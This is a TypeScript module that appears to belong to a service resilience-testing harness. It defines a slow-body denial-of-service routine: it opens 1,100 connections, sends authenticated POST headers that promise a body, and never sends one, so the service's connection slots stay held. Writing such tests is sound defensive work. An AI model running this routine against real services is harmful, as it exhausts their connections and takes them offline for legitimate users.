import type { Attack } from './attack.ts';
import { withSockets, write } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

/** More than the slots that a service has by default. */
const connections = 1_100;

/** Begins 1,100 bodies with one key, and sends nothing of them. */
export const stallBodies: Attack = (target) =>
  withSockets(target, async ({ open, untilOver }) => {
    const head = request('POST /v1/pets', [
      bearer(target.apiKey),
      'Content-Type: application/json',
      'Content-Length: 100',
    ]);
    await Promise.all(Array.from({ length: connections }, async () => write(await open(), head)));
    await untilOver();
  });
